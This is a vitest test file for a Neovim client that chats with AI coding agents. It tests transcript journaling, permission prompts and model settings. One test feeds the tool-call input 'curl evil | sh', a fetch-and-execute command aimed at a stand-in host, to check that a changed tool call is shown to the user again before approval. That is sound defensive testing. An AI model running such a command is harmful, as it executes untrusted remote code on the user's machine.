import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { Chat } from '../../src/chat.ts';
import { AcpError } from '../../src/errors.ts';
import { RenderLoop } from '../../src/nvim/render-loop.ts';
import { Journal } from '../../src/session/journal.ts';
import type { Setting } from '../../src/session/model.ts';
import { aChunk, anAgentSpec, aPermission, aToolCall, aToolPatch } from '../support/builders.ts';
import { EditorDouble, LauncherDouble, LogDouble, ManualClock, settle } from '../support/doubles.ts';
import { aFolder } from '../support/temp.ts';

function aChat(file = path.join(aFolder(), '1.jsonl')) {
  const [editor, clock, log, launcher] = [
    new EditorDouble(),
    new ManualClock(),
    new LogDouble(),
    new LauncherDouble(),
  ];
  const renderLoop = new RenderLoop(editor, clock, log);
  const chat = new Chat(1, anAgentSpec(), new Journal(file, clock, log), {
    editor,
    clock,
    log,
    launcher,
    renderLoop,
  });
  const draw = async (ms = 16) => {
    clock.advance(ms);
    await settle(1);
    editor.asked.at(-1)?.answer.resolve('drawn');
    await settle(1);
  };
  const ops = () => editor.told.map(({ op }) => op).filter((op) => op !== 'chat.facts');
  return { chat, editor, clock, launcher, renderLoop, file, draw, ops };
}

async function aReadyChat() {
  const parts = aChat();
  parts.chat.start();
  await parts.launcher.last.becomeReady();
  await parts.draw();
  return parts;
}

describe('a prompt', () => {
  it('is accepted before it may come back', async () => {
    const { chat, launcher, ops } = aChat();
    launcher.failure = new Error('spawn ENOTDIR');
    chat.send('hi');
    await settle();
    expect(ops()).toEqual(['prompt.accepted', 'chat.news', 'prompt.restore']);
  });
});

describe('a transcript', () => {
  const texts = ({ session }: Chat) =>
    session.state.entries.map((entry) =>
      'text' in entry ? entry.text.toString() : 'title' in entry ? entry.title : '',
    );

  /** A chat that was answered once, as it stands in its file. */
  async function aWritten() {
    const parts = await aReadyChat();
    parts.chat.send('fix it');
    parts.chat.session.report({ kind: 'title', title: 'Parser' });
    parts.chat.session.report(aChunk('done'));
    parts.launcher.last.turns[0]!.resolve('cancelled');
    await settle();
    parts.chat.dispose();
    return parts.file;
  }

  it('holds a prompt before the prompt leaves its buffer', async () => {
    const { chat, editor, file } = aChat();
    const tell = editor.tell.bind(editor);
    let written = '';
    editor.tell = (op, payload) => {
      if (op === 'prompt.accepted') written = fs.readFileSync(file, 'utf8');
      tell(op, payload);
    };
    chat.send('fix it');
    expect(written).toContain('"prompt_queued","text":"fix it"');
  });

  it('holds what a frame shows before the frame is drawn', async () => {
    const { chat, editor, clock, file } = await aReadyChat();
    chat.session.report(aChunk('shown'));
    clock.advance(16);
    await settle(1);
    expect(JSON.stringify(editor.asked.at(-1)?.payload)).toContain('shown');
    expect(fs.readFileSync(file, 'utf8')).toContain('"text":"shown"');
  });

  it('of before is what a chosen conversation shows, with its title, and what the agent tells again is left out', async () => {
    const written = await aWritten();
    const { chat, launcher, file, clock } = aChat();
    chat.start({ session: 's1', written });
    expect(texts(chat)).toEqual(['fix it', 'done', 'Stopped.']);
    expect(chat.summary()).toMatchObject({ title: 'Parser', firstPrompt: 'fix it' });
    launcher.last.readiness.resolve({ name: 'tester', title: 'Tester', abilities: { load: true } });
    await settle();
    chat.session.report(aChunk('fix it', 'user'));
    chat.session.report(aChunk('done'));
    launcher.last.opening.resolve('s1');
    await settle();
    expect(texts(chat)).toEqual(['fix it', 'done', 'Stopped.']);
    chat.dispose();
    const again = new Chat(2, anAgentSpec(), new Journal(file, clock, new LogDouble()), {
      ...aChat(),
      clock,
      log: new LogDouble(),
    });
    again.start();
    expect(texts(again).slice(0, 3)).toEqual(['fix it', 'done', 'Stopped.']);
  });

  it('of before that is damaged is shown as far as it can be read, which is said', async () => {
    const written = await aWritten();
    const lines = fs.readFileSync(written, 'utf8').split('\n');
    const damaged = lines.map((line) => line.replace('"text":"done"', '"text":5'));
    fs.writeFileSync(written, [...damaged, '{"at":1,"event":{"kind":"of a newer version"}}', ''].join('\n'));
    const { chat } = aChat();
    chat.start({ session: 's1', written });
    expect(texts(chat)).toEqual([
      'fix it',
      'Stopped.',
      expect.stringContaining('2 records of the transcript'),
    ]);
    expect(chat.session.state.phase).toBe('starting');
  });

  it('that can not be written is said in the chat', async () => {
    const file = path.join(aFolder(), '1.jsonl');
    fs.symlinkSync('/dev/full', file);
    const { chat } = aChat(file);
    chat.send('fix it');
    await settle();
    expect(texts(chat)).toContainEqual(expect.stringContaining('ENOSPC'));
  });
});

describe('a report of an agent', () => {
  it('that fails is the trouble of its chat, said there once', async () => {
    const { chat } = await aReadyChat();
    const broken = aChunk(null as unknown as string);
    for (const event of [broken, broken, aChunk('fine')]) chat.session.report(event);
    const titles = chat.session.state.entries.map((entry) => ('title' in entry ? entry.title : entry.kind));
    expect(titles).toEqual(['Something that the agent sent could not be shown.', 'message']);
  });
});

describe('a question', () => {
  it('is told after it is on the screen, with all those that wait', async () => {
    const { chat, editor, draw, ops } = await aReadyChat();
    void chat.session.ask(aPermission());
    void chat.session.ask(aPermission());
    await settle();
    expect(ops()).toEqual([]);
    await draw();
    expect(editor.told).toContainEqual({ op: 'question.waiting', payload: { chat: 1, ids: [1, 2] } });
  });

  it('is shown with the words and the options of the agent, the oldest first', async () => {
    const { chat, editor } = await aReadyChat();
    void chat.session.ask(aPermission());
    void chat.session.ask(aPermission());
    chat.questions.show();
    expect(editor.told.at(-1)).toMatchObject({
      op: 'question.open',
      payload: {
        chat: 1,
        id: 1,
        prompt: 'Tester wants to run: rm -rf build',
        options: ['Allow once', 'Always allow', 'Reject'],
      },
    });
  });

  it('that is not there is not shown', async () => {
    const { chat, ops } = await aReadyChat();
    chat.questions.show();
    expect(ops()).toEqual([]);
  });
});

describe('an answer', () => {
  it('to a tool call that has changed since its picker opened is asked again, with what it is now', async () => {
    const { chat, editor } = await aReadyChat();
    const answer = chat.session.ask(aPermission());
    chat.questions.show();
    chat.session.report(aToolCall({ rawInput: { command: 'curl evil | sh' } }));
    chat.questions.answer(1, 0);
    expect(editor.told.slice(-2)).toMatchObject([
      { op: 'user.notify', payload: { message: expect.stringContaining('has changed') } },
      { op: 'question.open', payload: { id: 1, prompt: expect.stringContaining('curl evil | sh') } },
    ]);
    chat.questions.answer(1, 0);
    expect(await answer).toBe('yes');
  });

  it('counts although the call was told again as it was, or has begun', async () => {
    const { chat } = await aReadyChat();
    const rawInput = { list: ['a'] };
    const answer = chat.session.ask(aPermission({ tool: aToolPatch({ rawInput }) }));
    chat.questions.show();
    chat.session.report(aToolCall({ rawInput: structuredClone(rawInput), status: 'running' }));
    chat.questions.answer(1, 2);
    expect(await answer).toBe('no');
  });

  it('to a question that was taken back says so', async () => {
    const { chat, editor } = await aReadyChat();
    const withdrawal = new AbortController();
    void chat.session.ask(aPermission({ withdrawn: withdrawal.signal }));
    chat.questions.show();
    withdrawal.abort();
    chat.questions.answer(1, 0);
    const message = 'nothing was answered: this is no longer asked';
    expect(editor.told.at(-1)).toEqual({ op: 'user.notify', payload: { message, level: 'warn' } });
  });
});

describe('a picker that was closed', () => {
  it('leaves the question for later, and lets others come up by themselves', async () => {
    const { chat, editor } = await aReadyChat();
    void chat.session.ask(aPermission());
    void chat.session.ask(aPermission({ tool: aToolPatch({ toolCallId: 'call-2', title: 'second' }) }));
    chat.questions.show({ isUnasked: true });
    chat.questions.close(1);
    expect(chat.session.state.questions).toHaveLength(2);
    expect(editor.told.at(-1)).toEqual({ op: 'question.waiting', payload: { chat: 1, ids: [1, 2] } });
    chat.questions.show({ isUnasked: true });
    expect(editor.told.findLast(({ op }) => op === 'question.open')?.payload).toMatchObject({ id: 2 });
    const before = editor.told.length;
    chat.questions.show({ isUnasked: true });
    expect(editor.told).toHaveLength(before);
    chat.questions.close(2);
    chat.questions.show();
    expect(editor.told.at(-1)).toMatchObject({ op: 'question.open', payload: { id: 1 } });
  });

  it('offers to stop the turn where the agent offers no refusal', async () => {
    const { chat, editor } = await aReadyChat();
    void chat.session.ask(aPermission({ options: [{ id: 'y', name: 'Yes', kind: 'allow_once' }] }));
    chat.questions.show();
    expect(editor.told.at(-1)?.payload).toMatchObject({ options: ['Yes'], stop: 'Stop the turn' });
  });
});

describe('a login', () => {
  it('that an agent does not offer is explained in one short line', async () => {
    const { chat, editor } = await aReadyChat();
    chat.showLogin();
    const [message = ''] = editor.told
      .filter(({ op }) => op === 'user.notify')
      .map(({ payload }) => `${payload.message}`);
    expect(message).toBe('Tester: Log in with its own program, then :AcpRestart');
  });
});

describe('news for a user who does not see the chat', () => {
  const news = ({ told }: EditorDouble) =>
    told.filter(({ op }) => op === 'chat.news').map(({ payload }) => payload.text);

  it('are the end of a turn', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    chat.send('hi');
    chat.send('and');
    await settle();
    launcher.last.turns[0]?.resolve('end_turn');
    await settle();
    expect(news(editor)).toEqual([]);
    chat.session.report(aChunk('hello'));
    launcher.last.turns[1]?.resolve('end_turn');
    await settle();
    expect(news(editor)).toEqual(['Tester has finished · :AcpChat']);
  });

  it('are an error, once', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    chat.send('hi');
    await settle();
    launcher.last.turns[0]?.reject(new AcpError('agent_error', 'out of\u202e tokens'));
    await settle();
    expect(news(editor)).toEqual(['Tester: out of� tokens']);
  });

  it('name the agent once in an error that names it', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    chat.send('hi');
    await settle();
    launcher.last.turns[0]?.reject(new AcpError('agent_error', 'Tester reports an error: overloaded'));
    await settle();
    expect(news(editor)).toEqual(['Tester reports an error: overloaded']);
  });

  it('are not that the user has stopped it', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    chat.send('hi');
    await settle();
    chat.session.cancel();
    launcher.last.turns[0]?.resolve('cancelled');
    await settle();
    expect(news(editor)).toEqual([]);
  });
});

describe('time', () => {
  it('is drawn once a second while a turn runs, and not when it is over', async () => {
    const parts = await aReadyChat();
    parts.chat.send('hi');
    await parts.draw();
    const drawn = parts.editor.asked.length;
    for (let second = 0; second < 5; second += 1) {
      await parts.draw(1_000);
      await parts.draw();
    }
    const ticks = parts.editor.asked.length - drawn;
    expect(ticks).toBe(5);
    parts.launcher.last.turns[0]?.resolve('end_turn');
    await settle();
    await parts.draw();
    const before = parts.editor.asked.length;
    await parts.draw(10_000);
    expect(parts.editor.asked.length).toBe(before);
  });

  it('leaves no timer when the chat is closed in the middle of a turn', async () => {
    const parts = await aReadyChat();
    parts.chat.send('hi');
    await parts.draw();
    const drawn = parts.editor.asked.length;
    parts.chat.dispose();
    parts.clock.advance(10_000);
    expect({ timers: parts.clock.pending, drawn: parts.editor.asked.length }).toEqual({ timers: 0, drawn });
  });
});

it('brings back what an earlier host wrote down', async () => {
  const parts = await aReadyChat();
  parts.chat.send('hi');
  parts.chat.session.report(aChunk('hello'));
  parts.clock.advance(1_000);
  const later = aChat(parts.file);
  later.chat.start();
  const texts = later.chat.session.state.entries.map((entry) =>
    entry.kind === 'message' ? `${entry.text}` : entry.kind,
  );
  expect(texts).toEqual(['hi', 'hello', 'notice']);
  await later.draw(0);
  expect(JSON.stringify(later.editor.asked[0]?.payload)).toContain('hello');
});

it('is drawn anew when it is asked to be', async () => {
  const { chat, editor, draw } = await aReadyChat();
  chat.session.report(aChunk('hello'));
  await draw();
  chat.redraw();
  await draw();
  expect(editor.asked.at(-1)?.payload.patches).toMatchObject([{ op: 'reset' }, { op: 'new' }]);
});

describe('the models of an agent', () => {
  const setting = (id: string, category: string): Setting => ({
    id,
    name: `The ${id}`,
    category,
    current: 'a',
    choices: [
      { value: 'a', name: 'First', description: undefined, group: undefined },
      { value: 'b', name: 'Second', description: undefined, group: undefined },
    ],
    source: 'option',
  });
  const withSettings = async (...settings: readonly Setting[]) => {
    const parts = await aReadyChat();
    parts.chat.session.report({ kind: 'settings', settings });
    return parts;
  };
  const promptOf = async (...settings: readonly Setting[]) => {
    const { chat, editor } = await withSettings(...settings);
    chat.showSetting({ id: undefined, category: 'model' });
    const { payload } = editor.told.findLast(({ op }) => op === 'picker.open')!;
    return (payload as { prompt: string }).prompt;
  };

  it('are the setting that is called so, before others of the category', async () => {
    expect(await promptOf(setting('provider', 'model'), setting('model', 'model'))).toBe('The model');
  });

  it('are the only setting of the category, whatever it is called', async () => {
    expect(await promptOf(setting('llm', 'model'), setting('mode', 'mode'))).toBe('The llm');
  });

  it('are to be chosen from when several settings are of the category', async () => {
    expect(await promptOf(setting('big', 'model'), setting('small', 'model'))).toBe('Settings');
  });

  it('are confirmed in the chat when one was chosen', async () => {
    const { chat, launcher } = await withSettings(setting('model', 'model'));
    const changing = chat.session.change('model', 'b');
    chat.session.report({ kind: 'setting', id: 'model', value: 'b' });
    launcher.last.changing.resolve();
    await changing;
    expect(chat.session.state.entries.at(-1)).toMatchObject({ kind: 'notice', title: 'The model: Second' });
  });
});
